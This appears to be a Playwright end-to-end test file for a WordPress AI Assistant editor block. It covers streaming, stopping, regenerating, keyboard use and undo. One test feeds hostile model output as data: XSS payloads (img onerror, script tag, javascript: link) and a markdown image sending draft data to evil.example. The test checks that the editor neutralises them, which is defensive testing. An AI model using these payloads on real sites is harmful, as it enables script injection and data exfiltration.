import type { Page } from 'playwright-core';
import { testSite } from '../support/site/site';
import { findAssistant, insertAssistant, openAssistant } from './support/assistant';
import { insertBlockByInserter, postHeading } from './support/controls';
import {
	editorCanvas,
	emptyPost,
	expectValidBlocks,
	insertBlock,
	listBlocks,
	openEditor,
	postTitle,
	publishPost,
	reloadEditor,
	savePost,
	typeTitle,
} from './support/editor';
import { expectFocus, pressUntil } from './support/focus';
import { journey } from './support/journey';

const article = ['# Tomatoes', ' on a balcony\n\n', 'A pot, **some sun** ', 'and a little patience.\n\n', '- Water\n', '- Wait\n'];

const undo = (page: Page) => page.evaluate(() => (window as unknown as { wp: { data: { dispatch: (s: string) => { undo: () => unknown } } } }).wp.data.dispatch('core/editor').undo());

const blockNames = async (page: Page) => (await listBlocks(page)).map(({ name }) => name);

/** The name of the prompt input. */
const prompt = 'Ask the AI Assistant';

const postIsSaved = (page: Page) => savePost(page);

afterEach(() => testSite.model.replyWith());

describe('writing a post with the AI Assistant', () => {
	journey('goes from a prompt to a published page, and one undo takes it back', 'administrator', async ({ page, pageOf }) => {
		await testSite.model.replyWith({ chunks: article });
		await openEditor(page);
		await insertBlockByInserter(page, 'AI Assistant');
		const assistant = await findAssistant(page);
		await assistant.ask('Write a post about tomatoes');
		await assistant.button('Accept').click();

		expect(await postTitle(page)).toBe('Tomatoes on a balcony');
		expect(await blockNames(page)).toEqual(['core/paragraph', 'core/list']);

		await undo(page);
		expect(await blockNames(page)).toEqual(['jetpack/ai-assistant']);
		expect(await postTitle(page)).toBe('');
		await assistant.button('Accept').click();

		await page.keyboard.type(' well');
		await postIsSaved(page);
		await reloadEditor(page);
		await expectValidBlocks(page);
		const url = await publishPost(page);
		const visitor = await pageOf();
		await visitor.goto(url);
		await postHeading(visitor, 'Tomatoes on a balcony').waitFor();
		await visitor.getByText('Wait well').waitFor();
		await visitor.locator('strong', { hasText: 'some sun' }).waitFor();
	});

	journey('keeps what came when it is stopped, and is accepted, discarded and refused as a person asks', 'administrator', async ({ page }) => {
		await openEditor(page);

		// The title of a titled post stays.
		await testSite.model.replyWith({ chunks: article });
		let assistant = await insertAssistant(page);
		await typeTitle(page, 'My own title');
		await assistant.ask('Write a post about tomatoes');
		await assistant.button('Accept').click();
		expect(await postTitle(page)).toBe('My own title');
		expect(await blockNames(page)).toEqual(['core/heading', 'core/paragraph', 'core/list']);

		// Regenerate keeps the text until the next has begun.
		await emptyPost(page);
		await testSite.model.replyWith({ chunks: ['One ', 'two ', 'three '], stallAfter: 2 });
		assistant = await insertAssistant(page);
		await assistant.ask('Count');
		await assistant.text.getByText('One two').waitFor();
		await assistant.input.press('Escape');
		await assistant.button('Accept').waitFor();
		expect((await assistant.text.innerText()).trim()).toBe('One two');
		await testSite.model.replyWith({ chunks: ['Four ', 'five'], firstDelayMs: 1500 });
		await assistant.button('Regenerate').click();
		await assistant.button('Stop').waitFor();
		expect((await assistant.text.innerText()).trim()).toBe('One two');
		await assistant.text.getByText('Four five').waitFor();

		// Discard leads back to the prompt.
		await assistant.button('Discard').click();
		await assistant.text.waitFor({ state: 'detached' });
		expect(await assistant.input.inputValue()).toBe('Count');

		// An empty prompt cannot be sent.
		await emptyPost(page);
		await testSite.model.forgetRequests();
		assistant = await insertAssistant(page);
		expect(await assistant.button('Send').isDisabled()).toBe(true);
		await assistant.ask('   ');
		expect(await assistant.button('Stop').count()).toBe(0);
		expect(await testSite.model.requests()).toEqual([]);

		// A generated title becomes the title of the post.
		await emptyPost(page);
		await insertBlock(page, 'core/paragraph', { content: 'Tomatoes need sun.' });
		assistant = await insertAssistant(page);
		await testSite.model.replyWith({ chunks: ['"Sun for ', 'tomatoes"'] });
		// The editor hides the toolbar while a person types, until the pointer moves.
		await page.mouse.move(500, 400, { steps: 5 });
		await page.getByRole('button', { name: 'Write with AI' }).click();
		await page.getByRole('menuitem', { name: 'Generate a title' }).click();
		await assistant.button('Accept title').click();
		expect(await postTitle(page)).toBe('Sun for tomatoes');
		expect(await blockNames(page)).toEqual(['core/paragraph']);
	});

	journey('is written, stopped, changed, translated, accepted and undone by keyboard alone', 'administrator', async ({ page }) => {
		await testSite.model.replyWith({ chunks: ['One ', 'two ', 'three '], stallAfter: 2 });
		const assistant = await openAssistant(page);
		await expectFocus(page, prompt);
		await page.keyboard.type('Count');
		await page.keyboard.press('Enter');
		await assistant.text.getByText('One two').waitFor();
		await page.keyboard.press('Escape');
		await assistant.button('Accept').waitFor();
		await expectFocus(page, prompt);

		await testSite.model.replyWith({ chunks: ['Uno ', 'dos'] });
		for (const [menu, choice] of [['Change tone', 'Informal'], ['Translate', 'Spanish']] as const) {
			await page.keyboard.press('Alt+F10');
			await pressUntil(page, 'ArrowRight', 'Improve the text');
			await page.keyboard.press('Enter');
			await expectFocus(page, 'Summarize');
			await pressUntil(page, 'ArrowDown', menu);
			await page.keyboard.press('Enter');
			await expectFocus(page, 'Back');
			await page.keyboard.press('Escape');
			await expectFocus(page, menu);
			await page.keyboard.press('Enter');
			await pressUntil(page, 'ArrowDown', choice);
			await page.keyboard.press('Enter');
			await expectFocus(page, prompt);
			await assistant.text.getByText('Uno dos').waitFor();
			await assistant.button('Accept').waitFor();
		}
		expect(JSON.stringify(await testSite.model.requests())).toMatch(/informal.*Spanish/s);

		await page.keyboard.press('ControlOrMeta+Enter');
		await (await editorCanvas(page)).getByText('Uno dos').waitFor();
		expect(await blockNames(page)).toEqual(['core/paragraph']);
		await page.keyboard.type('!');
		await (await editorCanvas(page)).getByText('Uno dos!').waitFor();
		await page.keyboard.press('ControlOrMeta+z');
		await page.keyboard.press('ControlOrMeta+z');
		await assistant.text.getByText('Uno dos').waitFor();
		expect(await blockNames(page)).toEqual(['jetpack/ai-assistant']);
	});

	journey('keeps a suggestion over a reload, and shows what is hostile in an answer as text and links', 'administrator', async ({ page, pageOf }) => {
		let assistant = await openAssistant(page);
		await assistant.ask('Say hello');
		await assistant.button('Accept').waitFor();
		await savePost(page);
		await reloadEditor(page);
		assistant = await findAssistant(page);
		await assistant.text.getByText('Hello from the model.').waitFor();
		await assistant.button('Accept').click();
		expect(await blockNames(page)).toEqual(['core/paragraph']);

		await emptyPost(page);
		const fetched: string[] = [];
		page.on('request', (request) => fetched.push(request.url()));
		const hostile = '<img src=x onerror="window.hacked=1"> <script>window.hacked=1</script> [link](javascript:window.hacked=1)';
		await testSite.model.replyWith({ chunks: ['Look: ', hostile, ' ![a cat](https://evil.example/p.png?draft=secret)'] });
		assistant = await insertAssistant(page);
		await assistant.ask('Break it');
		await assistant.text.getByRole('link', { name: 'a cat' }).waitFor();
		await assistant.button('Accept').waitFor();
		expect(fetched.filter((url) => url.includes('evil.example'))).toEqual([]);
		expect(await assistant.text.locator('img').count()).toBe(0);

		await testSite.model.replyWith({ chunks: ['Look: ', hostile] });
		await assistant.button('Regenerate').click();
		await assistant.text.getByRole('link', { name: 'a cat' }).waitFor({ state: 'detached' });
		await assistant.button('Accept').click();
		await typeTitle(page, 'Hostile');
		await savePost(page);
		const visitor = await pageOf();
		for (const [view, go] of [[page, () => Promise.resolve()], [visitor, async () => void (await visitor.goto(await publishPost(page)))]] as const) {
			await go();
			expect(await view.evaluate(() => (window as unknown as { hacked?: number }).hacked)).toBeUndefined();
		}
		expect(await visitor.locator('.entry-content script, .entry-content img, .entry-content a').count()).toBe(0);
		await visitor.getByText('window.hacked=1').first().waitFor();
	});
});
